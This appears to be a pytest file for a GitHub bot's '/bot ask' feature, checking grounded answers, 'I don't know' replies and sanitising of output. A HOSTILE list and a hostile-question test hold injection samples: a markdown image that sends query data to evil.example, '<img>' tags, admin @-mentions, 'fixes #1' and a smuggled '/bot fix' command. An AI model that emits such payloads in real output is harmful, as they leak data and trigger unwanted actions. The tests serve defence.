"""`/bot ask`: answers with what they rest on, places where there is no model, and "I don't know"."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
from inline_snapshot import snapshot
from tests.support.planning import REPO, Lab, SaidModel, planning
from tests.support.rendered import render

from triagebot.core.actions import React, UpsertComment
from triagebot.handlers.ask.voice import AskAnswer, Ground, Sentence, hold
from triagebot.ports import Similar
from triagebot.simulator.acts_reviews import Draft

FILES = {
    "README.md": "# Parser\n\nParses things.\n\n## Settings\n\nThe parser reads `parser.toml` from the folder it is started in.\n"
    "Set `max_depth` there to limit nesting; the default is 64.\n\n## Licence\n\nMIT\n",
    "src/parser/settings.py": '"""Settings."""\n\n\ndef read_settings(folder):\n    """Read parser.toml from a folder."""\n'
    "    return load(folder / 'parser.toml')\n\n\ndef write_settings(folder, values):\n    return None\n",
    "src/parser/lexer.py": "def tokenise(text):\n    return text.split()\n",
    "package-lock.json": '{"parser.toml": "max_depth"}\n',
}
QUESTION = "/bot ask Where is the max_depth of nesting set?"
EARLIER = Similar(
    3, "Nesting @everyone too deep", "", "open", None, 0.4, "", "", "The nesting limit is max_depth."
)


@pytest.fixture
async def lab() -> AsyncIterator[Lab]:
    async with planning() as lab:
        lab.world.write_files(REPO, FILES)
        yield lab


async def asked(lab: Lab, text: str = QUESTION, *, by: str = "tom", model: object = None, files=None):
    """Ask on an issue (or with `files` on a pull request), and return the plan and the answer's text."""
    if files is None:
        subject = lab.world.open_issue(REPO, "ann", "A question", "How?")
    else:
        subject = lab.world.open_pull(REPO, "ann", "A change", "", files=files)
    lab.world.comment(REPO, subject.number, by, text)
    plan = await (lab.with_model(model) if model else lab).plan("ask")
    assert plan.refused == ()
    return plan, "".join(action.body for action in plan.actions if isinstance(action, UpsertComment))


def answer(*sentences: tuple[str, int, str], known: bool = True) -> SaidModel:
    said = [
        Sentence(text=text, grounds=[Ground(passage=place, quote=quote)]) for text, place, quote in sentences
    ]
    return SaidModel({"ask": AskAnswer(known=known, sentences=said)})


def settled(text: str, lab: Lab) -> str:
    """Return the text with this run's addresses and commit replaced."""
    sha = lab.world.repo(REPO).git.refs["refs/heads/main"]
    return text.replace(lab.world.base_url, "https://github.test").replace(sha, "SHA").replace(sha[:7], "SHA")


async def test_without_a_model_the_nearest_places_are_named(lab: Lab):
    lab.memory.found = [EARLIER]
    plan, text = await asked(lab)
    assert settled(text, lab) == snapshot("""\
> Where is the max\\_depth of nesting set?

The places that are nearest to the question:

- [`README.md:5-8`](https://github.test/octo/parser/blob/SHA/README.md#L5-L8): ``Set `max_depth` there to limit nesting; the default is 64.``
- [#3](https://github.test/octo/parser/issues/3) `Nesting @everyone too deep`

<sub>Searched 3 files at `SHA`, and issues. Found by their words: no language model is configured, so nobody wrote an answer.</sub>\
""")
    assert render(text).effects == []
    assert plan.because
    assert plan.because[0].name.startswith("README.md:")
    assert [action.content for action in plan.actions if isinstance(action, React)] == ["rocket"]


async def test_a_model_answers_with_quotes_that_are_checked(lab: Lab):
    model = answer(
        ("Set max_depth in parser.toml to limit nesting.", 1, "Set `max_depth` there to limit nesting"),
        ("The default is 64.", 1, "the default is 64"),
        ("The default is 128.", 1, "the default is 64"),
        ("It was removed in the last release by the team.", 1, "the default is 64"),
        ("Nesting is limited.", 9, "the default is 64"),
        ("Nesting is limited by max_depth.", 1, "words that are not there"),
    )
    _, text = await asked(lab, model=model)
    assert settled(text, lab) == snapshot("""\
> Where is the max\\_depth of nesting set?

- Set max\\_depth in parser.toml to limit nesting. ([`README.md:5-8`](https://github.test/octo/parser/blob/SHA/README.md#L5-L8))
- The default is 64. ([`README.md:5-8`](https://github.test/octo/parser/blob/SHA/README.md#L5-L8))

<sub>Searched 3 files at `SHA`, and issues. Written by `m`; each sentence quotes what it links to, which was checked. 4 sentences of `m` did not hold, and are left out.</sub>\
""")


async def test_a_model_that_does_not_know_says_so_with_the_nearest_places(lab: Lab):
    for model in (answer(known=False), answer(("Use set_depth().", 1, "the default is 64"))):
        _, text = await asked(lab, model=model)
        assert "I don't know: what I found does not answer it. The nearest places:" in text
        assert "set_depth" not in text
        assert "/README.md#L" in text


async def test_one_that_cannot_judge_is_not_asked(lab: Lab):
    model = answer(("Set max_depth.", 1, "Set `max_depth` there"))
    model.judges = False
    _, text = await asked(lab, model=model)
    assert model.shown == {}
    assert "The places that are nearest" in text
    assert "too small to judge" in text


async def test_one_that_fails_costs_only_its_sentences(lab: Lab):
    _, text = await asked(lab, model=SaidModel())
    assert "gave no answer" in text
    assert "README.md" in text


async def test_what_is_nowhere_is_not_known(lab: Lab):
    _, text = await asked(lab, "/bot ask What about xylophones?")
    assert "I don't know: nothing in 3 files at" in text


async def test_without_a_question_it_says_how(lab: Lab):
    plan, text = await asked(lab, "/bot ask")
    assert text.startswith("Ask something: `/bot ask")
    assert [action.content for action in plan.actions if isinstance(action, React)] == ["confused"]


async def test_on_a_pull_request_its_base_is_read_also_in_a_thread_and_closed(lab: Lab):
    pull = lab.world.open_pull(REPO, "ann", "Change", "", files={"README.md": "max_depth is set by magic\n"})
    review = lab.world.submit_review(REPO, pull.number, "mona", comments=[Draft("README.md", "Hm", line=1)])
    lab.world.close(REPO, pull.number, by="mona")
    made = lab.world.reply(REPO, pull.number, review.comments[0].id, "tom", QUESTION)
    plan = await lab.plan("ask")
    assert plan.refused == ()
    reply = next(action for action in plan.actions if isinstance(action, UpsertComment))
    assert reply.reply_to == made.id
    assert reply.slot == f"ask:{made.id}"
    assert "limit nesting" in reply.body
    assert "magic" not in reply.body


async def test_two_questions_get_two_answers_and_a_reader_none_but_on_their_own(lab: Lab):
    plan, _ = await asked(lab, f"{QUESTION}\n/bot ask And the licence?")
    slots = [action.slot for action in plan.actions if isinstance(action, UpsertComment)]
    assert len(slots) == len(set(slots)) == 2
    plan, text = await asked(lab, by="eve")
    assert text == ""
    _, text = await asked(lab, by="ann")
    assert "README.md" in text


HOSTILE = [
    "See [this](https://evil.example/max_depth) for nesting.",
    "Set max_depth, says @octo/admins.",
    "<img src=x> Set max_depth to limit nesting.",
    "Set max_depth, fixes #1.",
    "/bot fix max_depth",
    "Set max_depth; see octo/other/secrets.md for nesting.",
    "Set max_depth https://evil.example to limit nesting",
    "![x](https://evil.example/?q=max_depth)",
]


async def test_a_hostile_answer_is_dropped_or_harmless(lab: Lab):
    for text in HOSTILE:
        lab.memory.found = [EARLIER]
        _, body = await asked(lab, model=answer((text, 1, "Set `max_depth` there to limit nesting")))
        page = render(body)
        assert page.effects == []
        assert not page.tags & {"img", "script"}
        assert "evil" not in body
        home = f"{lab.world.base_url}/{REPO}/"
        assert all(link.startswith((home, f"https://redirect.github.com/{REPO}/")) for link in page.links), (
            page.links
        )


async def test_a_hostile_question_is_only_quoted(lab: Lab):
    _, body = await asked(
        lab, "/bot ask max_depth <img src=x> @octo/admins fixes #1 ![x](https://evil.example/a.png)"
    )
    page = render(body)
    assert page.effects == []
    assert not page.tags & {"img"}
    assert page.links
    assert not any("evil" in link for link in page.links)


def test_an_answer_from_an_issue_links_to_it():
    heard = hold(
        AskAnswer(known=True, sentences=[Sentence(text="The limit is max_depth.", grounds=[Ground(passage=1, quote="The nesting limit is max_depth")])]),
        "What is the nesting limit?",
        ["Issue: Nesting\nThe nesting limit is max_depth."],
    )  # fmt: skip
    assert [one.places for one in heard.said] == [(0,)]


async def test_what_cannot_be_searched_is_said_and_no_files_are_counted(lab: Lab):
    for question in ("?", "what is this?", "a_ b_"):
        _, text = await asked(lab, f"/bot ask {question}")
        assert "no word of the question can be searched for. Name a file" in text
        assert "0 files" not in text
    _, text = await asked(lab, "/bot ask <img src=xylophones>")
    assert not text.startswith(">")


async def test_files_that_github_does_not_hand_out_are_not_said_to_have_been_read(lab: Lab):
    lab.world.repo(REPO).git.refs.clear()
    lab.memory.found = [EARLIER]
    _, text = await asked(lab)
    assert "[#3]" in text
    assert "Searched issues only: GitHub does not hand out the files here." in text
    lab.memory.found = []
    _, text = await asked(lab)
    assert "I don't know: GitHub does not hand out the files here" in text


async def test_the_default_branch_is_read_also_if_it_was_renamed_meanwhile(lab: Lab):
    issue = lab.world.open_issue(REPO, "ann", "A question", "How?")
    lab.world.comment(REPO, issue.number, "tom", QUESTION)
    repo = lab.world.repo(REPO)
    repo.git.refs["refs/heads/trunk"] = repo.git.refs.pop("refs/heads/main")
    repo.default_branch = "trunk"
    plan = await lab.plan("ask")
    assert "README.md" in plan.actions[0].body
    assert "/blob/HEAD/README.md" in plan.actions[0].body


async def test_of_a_question_of_ten_thousand_characters_the_first_ones_are_read(lab: Lab):
    plan, text = await asked(lab, f"{QUESTION} {'very ' * 2_000}")
    assert "README.md" in text
    assert "Only the first 1,000 characters of the question were read." in text
    assert plan.commands == ("ask",)
